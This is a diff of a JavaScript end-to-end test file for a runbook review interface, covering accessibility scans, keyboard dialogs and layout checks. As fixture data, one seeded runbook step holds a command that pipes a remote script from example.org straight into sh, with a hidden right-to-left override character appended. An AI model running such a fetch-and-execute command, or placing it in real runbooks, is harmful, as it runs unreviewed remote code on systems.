@@ -21,7 +21,6 @@ const LOOKS = {
 
 const stage = await Stage.start("looks");
 await stage.install();
-await stage.holdsPage();
 const browser = await startBrowser();
 const alice = stage.person("alice@example.org", "learn_reviewer");
 const bob = stage.person("bob@example.org", "learn_reviewer");
@@ -39,21 +38,41 @@ async function does(person, name, body) {
 /* Something of everything the page can show; the item that has most of it. */
 async function populate() {
 	const id = await stage.draft("RB-LNX-NGINX-001");
-	await stage.report(...Array.from({ length: 12 }, (_, i) =>
-		({ runbook_id: "RB-LNX-NGINX-001", hostname: `web-${i}`, client_id: i % 2 ? "acme" : "globex" })));
-	await stage.draft("RB-LNX-DISK-001", { incident_type: "disk_full" }, { incident_types: ["disk_full"] });
+	await stage.report(
+		...Array.from({ length: 12 }, (_, i) => ({
+			runbook_id: "RB-LNX-NGINX-001",
+			hostname: `web-${i}`,
+			client_id: i % 2 ? "acme" : "globex",
+		})),
+	);
+	await stage.draft(
+		"RB-LNX-DISK-001",
+		{ incident_type: "disk_full" },
+		{ incident_types: ["disk_full"] },
+	);
 	const risky = runbook("RB-LNX-FETCH-001");
 	risky.steps[1].command = "curl -s https://example.org/fix.sh | sh \u202e";
 	await does(bob, "learn_submit", { content: risky, reason: "quick fix", priority: "low" });
 	for (const runbookId of ["RB-LNX-MAIL-001", "RB-LNX-DNS-001"]) {
 		const draft = await stage.draft(runbookId);
 		const { digest } = (await bob.get("/rpc/learn_comparison", { id: draft })).json;
-		const call = runbookId.includes("MAIL") ? ["learn_approve", { digest, notes: "tried on staging" }]
+		const call = runbookId.includes("MAIL")
+			? ["learn_approve", { digest, notes: "tried on staging" }]
 			: ["learn_reject", { reason: "it would stop the database" }];
 		await does(bob, call[0], { id: draft, ...call[1] });
 	}
-	await does(bob, "learn_add_test", { id, test_name: "staging", passed: true, details: "3 of 3 runs" });
-	await does(bob, "learn_add_test", { id, test_name: "night run", passed: false, details: "timed out" });
+	await does(bob, "learn_add_test", {
+		id,
+		test_name: "staging",
+		passed: true,
+		details: "3 of 3 runs",
+	});
+	await does(bob, "learn_add_test", {
+		id,
+		test_name: "night run",
+		passed: false,
+		details: "timed out",
+	});
 	const { digest, improved } = (await bob.get("/rpc/learn_comparison", { id })).json;
 	const content = structuredClone(improved.content);
 	content.steps.reverse();
@@ -67,17 +86,28 @@ async function populate() {
 const id = await populate();
 
 async function findings(desk) {
-	if (!await desk.page.evaluate(() => "axe" in window)) await desk.page.evaluate(AXE);
-	const { violations } = await desk.page.evaluate(() => window.axe.run(document, {
-		runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
-	}));
-	return violations.filter(({ impact }) => ["serious", "critical"].includes(impact))
-		.map((found) => `${found.id}: ${found.help}: ${found.nodes.map((node) => node.html).slice(0, 3).join(" ")}`);
+	if (!(await desk.page.evaluate(() => "axe" in window))) await desk.page.evaluate(AXE);
+	const { violations } = await desk.page.evaluate(() =>
+		window.axe.run(document, {
+			runOnly: ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"],
+		}),
+	);
+	return violations
+		.filter(({ impact }) => ["serious", "critical"].includes(impact))
+		.map(
+			(found) =>
+				`${found.id}: ${found.help}: ${found.nodes
+					.map((node) => node.html)
+					.slice(0, 3)
+					.join(" ")}`,
+		);
 }
 
 async function fits(desk) {
-	const [content, view] = await desk.page.evaluate(() =>
-		[document.documentElement.scrollWidth, document.documentElement.clientWidth]);
+	const [content, view] = await desk.page.evaluate(() => [
+		document.documentElement.scrollWidth,
+		document.documentElement.clientWidth,
+	]);
 	assert.ok(content <= view, `${content} of ${view} pixels wide`);
 }
 
@@ -139,7 +169,12 @@ for (const [look, options] of Object.entries(LOOKS)) {
 		for (const box of await desk.page.getByRole("checkbox", { name: /^Acknowledge/ }).all()) {
 			await box.check();
 		}
-		for (const [key, title] of [["a", /^Approve/], ["r", /^Reject/], ["c", /^Request/], ["?", /^Keyboard/]]) {
+		for (const [key, title] of [
+			["a", /^Approve/],
+			["r", /^Reject/],
+			["c", /^Request/],
+			["?", /^Keyboard/],
+		]) {
 			await desk.page.keyboard.press(key);
 			await desk.page.getByRole("dialog", { name: title }).waitFor();
 			await passes(desk, `${title}`);
@@ -159,7 +194,8 @@ test("these tests see what is wrong", async () => {
 	await desk.signIn();
 	await desk.page.evaluate(() => {
 		const wrong = document.createElement("div");
-		wrong.innerHTML = "<input><p style='color: #ddd; background: #fff'>pale</p><p style='width: 3000px'>wide</p>";
+		wrong.innerHTML =
+			"<input><p style='color: #ddd; background: #fff'>pale</p><p style='width: 3000px'>wide</p>";
 		document.querySelector("main").append(wrong);
 	});
 	const found = (await findings(desk)).map((line) => line.split(":")[0]);
@@ -172,7 +208,9 @@ test("with the text twice as large nothing is lost sideways", async () => {
 	const desk = await Desk.open(browser, stage, alice, { viewport: { width: 640, height: 480 } });
 	await desk.signIn(`#/review/${id}`);
 	await desk.decision.waitFor();
-	await desk.page.evaluate(() => { document.documentElement.style.fontSize = "200%"; });
+	await desk.page.evaluate(() => {
+		document.documentElement.style.fontSize = "200%";
+	});
 	await fits(desk);
 	await desk.close();
 });
